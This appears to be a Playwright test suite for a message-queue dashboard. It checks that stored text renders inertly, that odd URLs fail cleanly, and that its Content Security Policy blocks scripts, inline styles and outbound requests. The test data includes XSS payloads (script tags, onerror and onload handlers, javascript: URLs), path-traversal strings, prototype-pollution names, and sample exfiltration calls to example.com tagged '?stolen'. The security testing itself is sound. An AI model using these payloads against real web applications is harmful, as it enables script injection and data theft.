"""Nothing that anybody wrote is ever more than text: not bodies, not names, not addresses."""

import re
from typing import Final
from urllib.parse import quote

import pytest
from playwright.sync_api import Locator, Page, expect

from segue.stores.contract import Item
from segue.tasks.scheduling import ScheduleBook
from tests.browser.browser_support import Complaints, Dashboard, go, until
from tests.browser.filled import SCREENS, fill, fill_queue, fill_tasks, fill_topic, status_of

MARKUP: Final = (
    "<img src=x onerror=window.hacked=1>\"><script>window.hacked=1</script>'--><svg "
    "onload=window.hacked=1>${window.hacked=1}{{window.hacked=1}}</textarea></title>"
)
EVIL: Final = (
    f"{MARKUP} javascript:window.hacked=1 \u202eturned\u2067round \x01\x1b[31m\x7f\u0085\u2028\r\n"
    "\t%00%2F..\\ &lt;b&gt; \U0001f9d1\u200d\U0001f680 Z\u0338\u0321\u0322"
)
SIZES: Final = ((390, 844), (1280, 800))
_WIDTHS: Final = "[document.documentElement.scrollWidth, window.innerWidth]"
_FOREIGN: Final = """
() => [
  ...document.querySelectorAll("main :is(img, script, style, iframe, object, textarea, [onload])"),
  ...document.querySelectorAll("a[href]:not([href^='#'])"),
].map((each) => each.outerHTML.slice(0, 200))
"""


def expect_harmless(page: Page) -> None:
    """Fail if anything of what was written was taken for more than text, or does not fit."""
    assert page.evaluate("window.hacked") is None
    assert page.evaluate(_FOREIGN) == []
    for width, height in SIZES:
        page.set_viewport_size({"width": width, "height": height})
        content, window = page.evaluate(_WIDTHS)
        assert content <= window


def expect_screen(dashboard: Dashboard, name: str) -> Locator:
    """Return what a screen shows, once it does: its heading may be anything here."""
    page = dashboard.page
    go(page, SCREENS[name].route)
    heading = page.get_by_role("heading", level=1)
    expected = "onerror" if name == "task" else f"^{re.escape(SCREENS[name].heading)}$"
    expect(heading).to_have_text(re.compile(expected))
    expect(status_of(page)).to_have_text("Live")
    return page.get_by_role("main")


# What is stored ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "screens",
    [
        ("overview", "queue", "message"),
        ("all letters", "letters", "letter"),
        ("tasks", "task", "schedules", "workers"),
        ("topics", "topic", "segments", "limits"),
    ],
    ids=" ".join,
)
def test_markup_and_scripts_are_shown_as_they_were_written(
    dashboard: Dashboard, screens: tuple[str, ...]
) -> None:
    """In bodies, headers, keys, groups, reasons, owners, tasks, errors, schedules and workers."""
    fill(dashboard.store, EVIL)
    dashboard.open()

    for screen in screens:
        main = expect_screen(dashboard, screen)
        if screen not in {"overview", "all letters", "topics", "segments", "limits"}:
            expect(main.get_by_text("<img src=x onerror=window.hacked=").first).to_be_attached()
        expect_harmless(dashboard.page)


def test_what_the_audit_log_repeats_is_text(dashboard: Dashboard) -> None:
    """Paths are whatever somebody asked for."""
    dashboard.complaints.expect("status of 404")
    page = dashboard.open()
    expect(status_of(page)).to_have_text("Live")
    page.evaluate(
        "(path) => fetch(`../api/v1/schedules/${path}`, {method: 'DELETE'})", quote(EVIL, safe="")
    )
    main = expect_screen(dashboard, "audit")

    expect(main.get_by_role("table", name="Acts")).to_contain_text("onerror")
    expect_harmless(page)


def test_a_schedule_of_any_name_can_be_forgotten(dashboard: Dashboard) -> None:
    """What is asked for is that one, and what is told afterwards is its name."""
    text = f"{MARKUP}/../%2F?#x"
    fill_tasks(dashboard.store, dashboard.store.queue("mail.tasks"), text)
    name = f"mail.tasks {text}"
    page = dashboard.open("/schedules")
    page.get_by_role("button", name=f"Forget {name}", exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_role("heading")).to_have_text(f"Forget {name}?")
    dialog.get_by_role("textbox").fill(name)
    expect_harmless(page)
    dialog.get_by_role("button", name="Forget it").click()

    expect(page.get_by_role("log")).to_contain_text(f"{name} is forgotten")
    expect_harmless(page)
    assert ScheduleBook(dashboard.store).states() == {}


def test_letters_can_be_told_apart_by_any_reason(dashboard: Dashboard) -> None:
    """A reason goes into the address and back, and finds those it is the reason of."""
    queue = dashboard.store.queue("mail")
    fill_queue(queue, EVIL)
    fill_queue(queue, "plain words")
    page = dashboard.open("/letters/mail")
    causes = page.get_by_role("table", name="Dead letters by cause")
    causes.get_by_role("link", name=re.compile("onerror")).click()
    letters = page.get_by_role("table", name="Dead letters", exact=True)

    expect(letters.get_by_role("link")).to_have_text(["0-0", "0-1", "0-2"])
    expect(page.get_by_role("button", name="Redrive 3…")).to_be_visible()
    expect_harmless(page)
    page.reload()
    expect(letters.get_by_role("link")).to_have_text(["0-0", "0-1", "0-2"])


def test_tasks_can_be_found_by_any_name(dashboard: Dashboard) -> None:
    """As it is linked from where it is told of."""
    fill_tasks(dashboard.store, dashboard.store.queue("mail.tasks"), EVIL)
    fill_tasks(dashboard.store, dashboard.store.queue("orders.tasks"), "plain words")
    page = dashboard.open("/tasks")
    by_name = page.get_by_role("table", name="Tasks by name")
    by_name.get_by_role("link", name=re.compile("onerror")).click()
    tasks = page.get_by_role("table", name="Tasks", exact=True)

    expect(tasks.get_by_text("plain words")).to_have_count(0)
    expect(tasks.get_by_role("link")).to_have_count(4)
    expect_harmless(page)


@pytest.mark.parametrize("name", ["__proto__", "constructor", "toString", "a" * 100, "0.-_"])
def test_a_queue_may_be_called_whatever_a_queue_may_be_called(
    dashboard: Dashboard, name: str
) -> None:
    """Also like something that every object of JavaScript has."""
    queue = dashboard.store.queue(name)
    queue.push("hello", headers={"__proto__": "x", "constructor": "y"})
    queue.nack(queue.lease(), outcome="dead", reason="toString")
    page = dashboard.open()
    page.get_by_role("table", name="Queues").get_by_role("link", name=name, exact=True).click()
    expect(page.get_by_role("heading", level=1)).to_have_text(name)
    page.get_by_role("table", name="Messages").get_by_role("link", name="0-0").click()

    expect(page.get_by_role("heading", level=1)).to_have_text(re.compile("0-0"))
    headers = page.get_by_role("region", name="Headers")
    expect(headers.get_by_role("term")).to_have_text(["__proto__", "constructor"])
    expect_harmless(page)


def test_text_that_turns_round_turns_round_nothing_else(dashboard: Dashboard) -> None:
    """What stands behind a name from right to left still reads from left to right."""
    fill_tasks(dashboard.store, dashboard.store.queue("mail.tasks"), "\u202egnorw")
    page = dashboard.open("/tasks/mail.tasks/0-0")
    said = page.get_by_role("listitem").filter(has_text="Failed for good")
    expect(said).to_contain_text(", attempt 1")
    places = said.get_by_text(", attempt 1").evaluate(
        """(node) => [1, 9].map((index) => {
          const range = document.createRange();
          range.setStart(node.firstChild, index);
          range.setEnd(node.firstChild, index + 1);
          return range.getBoundingClientRect().left;
        })"""
    )

    assert places == sorted(places)


# What is large, or strange -----------------------------------------------------------------------


def payload_of(page: Page) -> Locator:
    """Return what is shown of a body."""
    return page.get_by_role("region", name="Payload", exact=True)


def test_a_line_of_a_megabyte_is_cut_and_says_so(dashboard: Dashboard) -> None:
    """The page stays as wide as it is, and the rest is for whoever downloads it."""
    dashboard.store.queue("mail").push("x" * 1_000_000)
    page = dashboard.open("/queues/mail/messages/0-0")

    expect(payload_of(page)).to_contain_text("977 KiB, the first 64.0 KiB shown")
    expect(payload_of(page).locator("pre")).to_have_text("x" * 65_536)
    expect_harmless(page)


@pytest.mark.parametrize("screen", ["queue", "letters", "topic"])
def test_lists_show_the_beginning_of_what_is_long(dashboard: Dashboard, screen: str) -> None:
    """Of each a line, however long it is."""
    fill_queue(dashboard.store.queue("mail"), "x" * 1_000_000)
    fill_topic(dashboard.store.topic("mail.events", partitions=1), "y" * 1_000_000)
    dashboard.open()
    main = expect_screen(dashboard, screen)

    expect(main.get_by_text(re.compile(r"(x{70}|y{70})…$")).first).to_be_visible()
    expect_harmless(dashboard.page)


def test_json_of_ten_thousand_levels_is_shown_as_it_is(dashboard: Dashboard) -> None:
    """Indented it would be a hundred megabytes of nothing."""
    deep = "[" * 10_000 + "]" * 10_000
    dashboard.store.queue("mail").push(deep)
    page = dashboard.open("/queues/mail/messages/0-0")

    expect(payload_of(page).locator("pre")).to_have_text(deep)
    expect(payload_of(page).get_by_role("button", name="JSON")).to_have_count(0)
    expect_harmless(page)


def test_json_is_shown_as_it_was_written(dashboard: Dashboard) -> None:
    """Numbers are not rounded, a name that comes twice stays, half a character stays escaped."""
    body = (
        '{"id":12345678901234567891,"big":1e400,"small":-0.0,"half":"\\ud800","id":[],'
        '"__proto__":{"a":[true,null,"x: [1, 2]"]}}'
    )
    dashboard.store.queue("mail").push(body)
    page = dashboard.open("/queues/mail/messages/0-0")
    shown = payload_of(page).locator("pre")

    expect(payload_of(page).get_by_role("button", name="JSON")).to_have_attribute(
        "aria-pressed", "true"
    )
    expect(shown).to_contain_text('"id": 12345678901234567891,')
    # Without the white space that was added.
    assert re.sub(r"\n *|(?<=\":) ", "", shown.inner_text()) == body
    payload_of(page).get_by_role("button", name="Text").click()
    expect(shown).to_have_text(body)


def test_numbers_of_tasks_are_not_rounded(dashboard: Dashboard) -> None:
    """An id of nineteen digits that ends in zeros is another one's."""
    queue = dashboard.store.queue("mail.tasks")
    queue.push('{"task":"send","args":{"to":9007199254740993,"rate":1.5}}')
    page = dashboard.open("/tasks/mail.tasks/0-0")

    arguments = page.get_by_role("region", name="Arguments")
    expect(arguments.locator("pre")).to_have_text('{ "to": 9007199254740993, "rate": 1.5 }')


def test_bytes_that_are_no_text_are_shown_as_bytes(dashboard: Dashboard) -> None:
    """Neither as wrong characters nor as a failure."""
    dashboard.store.queue("mail").push_many(
        [Item(body=b"\xff\xfe\x00\x80<b>"), Item(body=b""), Item(body=b"a\x00b")]
    )
    page = dashboard.open("/queues/mail/messages/0-0")
    expect(payload_of(page).locator("pre")).to_have_text("00000000 ff fe 00 80 3c 62 3e ....<b>")
    go(page, "/queues/mail/messages/0-1")
    expect(payload_of(page)).to_contain_text("0 B")
    go(page, "/queues/mail/messages/0-2")
    expect(payload_of(page)).to_contain_text("61 00 62")

    expect_harmless(page)


# Addresses ---------------------------------------------------------------------------------------

_ADDRESSES: Final = {
    "no page": {
        "/nonsense": "There is no such page",
        "/queues/mail/messages/0-0/more/and/more": "There is no such page",
        f"/{'x' * 5_000}": "There is no such page",
        "//////": "Overview",
        "?&&&=&%%%": "Overview",
        "/?range=%3Cimg%3E&sort=-__proto__&q=%E0%A4%A&from=-5": "Overview",
        "/?from=NaN&sort=constructor": "Overview",
    },
    "no name": {
        "/queues/%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E": "That did not work",
        "/queues/<img src=x onerror=window.hacked=1>": "That did not work",
        "/queues/%E0%A4%A": "That did not work",
        "/queues/%ED%A0%80": "That did not work",
        "/queues/%00": "That did not work",
        "/queues/__proto__": "There is no queue __proto__",
        f"/queues/{'x' * 5_000}": "That did not work",
        f"/queues/{'x' * 200_000}": "That did not work",
    },
    "another path": {
        "/queues/..%2F..%2Fdocs": "That did not work",
        "/queues/..": "nothing is called ..",
        "/queues/%2e%2e/messages/%2E": "nothing is called",
        "/tasks/../queues": "nothing is called ..",
        "/topics/.": "nothing is called .",
        "/queues/mail/messages/javascript:window.hacked=1": "nothing is known|did not work",
    },
    "no filter": {
        "/queues/mail?state=%3Cimg%3E": "That did not work",
        "/queues/mail?after=%3Cimg%3E": "That did not work",
        "/queues/mail?past=%3Cimg%3E+%22&range=x": "mail",
        "/letters/mail?cause=%3Cimg%3E&pattern=%22": "None fits",
        "/tasks?state=%3Cimg%3E": "That did not work",
        "/tasks?task=%3Cimg%3E&error=%3Cb%3E": "There are no tasks yet",
    },
    "no place": {
        "/topics/mail.events?partition=%3Cimg%3E&offset=1e999": "There are no records here",
        "/topics/mail.events?partition=0&offset=-1e9": "mail.events",
        "/segments?kind=__proto__&name=%3Cimg%3E": "That did not work",
        "/audit?before=%3Cimg%3E": "That did not work",
    },
}
"""What is told at addresses that nobody meant."""


@pytest.mark.parametrize("kind", _ADDRESSES)
def test_an_address_that_nobody_meant_is_told_and_does_nothing(
    dashboard: Dashboard, kind: str
) -> None:
    """Links come from anywhere: a page that breaks, or asks for something else, is a way in."""
    dashboard.complaints.expect("status of 4[0-9][0-9]")
    fill_queue(dashboard.store.queue("mail"), "plain words")
    dashboard.store.topic("mail.events", partitions=1).append("hello")
    page = dashboard.open(next(iter(_ADDRESSES[kind])))

    for route, told in _ADDRESSES[kind].items():
        go(page, route)
        expect(status_of(page)).to_have_text("Live")
        expect(page.get_by_role("main")).to_contain_text(re.compile(told, re.IGNORECASE))
        expect(page.get_by_role("heading", level=1)).to_have_count(1)
        expect_harmless(page)


def test_a_page_that_is_not_there_stays_so(dashboard: Dashboard) -> None:
    """The screen before it does not come back by itself, and one that is there comes at once."""
    dashboard.store.queue("mail").push("hello")
    page = dashboard.page
    page.clock.install()
    dashboard.open("/queues/mail")
    expect(page.get_by_role("heading", level=1)).to_have_text("mail")
    expect(status_of(page)).to_have_text("Live")
    go(page, "/nonsense")
    expect(page.get_by_role("heading", level=1)).to_have_text("There is no such page")
    page.keyboard.press("p")
    expect(status_of(page)).to_have_text("Paused")
    page.keyboard.press("p")
    expect(status_of(page)).to_have_text("Live")
    page.clock.run_for(30_000)

    expect(page.get_by_role("heading", level=1)).to_have_text("There is no such page")
    page.get_by_role("link", name="To the overview").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Overview")


# What the page may do ----------------------------------------------------------------------------

_ADD: Final = "document.body.insertAdjacentHTML('beforeend', "
_BREACHES: Final = {
    "run": {
        "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), "
        "{textContent: 'window.hacked = 1'}))",
        "script-src-attr": f"{_ADD}'<img src=icon.svg onload=window.hacked=1>')",
        "script-src-elem keeps out inline": "Object.assign(document.createElement('a'), "
        "{href: 'javascript:window.hacked=1'}).click()",
        "script-src keeps out eval": "setTimeout(() => Function('window.hacked = 1')())",
    },
    "look otherwise": {
        "style-src-attr": f"{_ADD}'<p style=color:red>')",
        "style-src-elem": f"{_ADD}'<style>*{{color:red}}</style>')",
    },
    "tell": {
        "img-src": "new Image().src = 'https://example.com/?stolen'",
        "connect-src": "fetch('https://example.com/?stolen').catch(() => 0)",
        "frame-src|default-src": f"{_ADD}'<iframe src=https://example.com/></iframe>')",
        "form-action": "const form = Object.assign(document.createElement('form'), "
        "{action: 'https://example.com/', method: 'post'}); document.body.append(form); "
        "form.submit()",
        "base-uri": "document.head.append(Object.assign(document.createElement('base'), "
        "{href: 'https://example.com/'}))",
    },
}
"""What somebody might try who got so far, by what is to keep it from happening."""


def expect_kept_out(
    page: Page, complaints: Complaints, found: re.Pattern[str], breach: str
) -> None:
    """Try something, and fail unless the browser says that it kept it out."""
    before = len(complaints.found)
    page.evaluate(f"() => {{ {breach} }}")
    until(page, lambda: any(map(found.search, complaints.found[before:])))


@pytest.mark.parametrize("what", _BREACHES)
def test_what_would_get_in_all_the_same_may_do_nothing(dashboard: Dashboard, what: str) -> None:
    """Should a text ever be taken for markup, the browser still runs and fetches none of it."""
    complaints = dashboard.complaints
    complaints.expect(r"policy: |Content Security Policy|violates|EvalError")
    complaints.expect(r"elsewhere: GET https://example.com/")  # Asked, and kept back.
    page = dashboard.open()
    expect(status_of(page)).to_have_text("Live")

    for directive, breach in _BREACHES[what].items():
        expect_kept_out(page, complaints, re.compile(f"policy: ({directive})"), breach)
    assert page.evaluate("window.hacked") is None


def test_no_other_page_may_show_the_dashboard_inside_itself(dashboard: Dashboard) -> None:
    """Else it could have whoever looks press a button without knowing."""
    dashboard.complaints.expect("frame-ancestors")
    page = dashboard.page
    page.set_content(f"<iframe src='{dashboard.url}/dash/'></iframe>")

    until(page, lambda: page.frames[1].url.startswith("chrome-error:"))
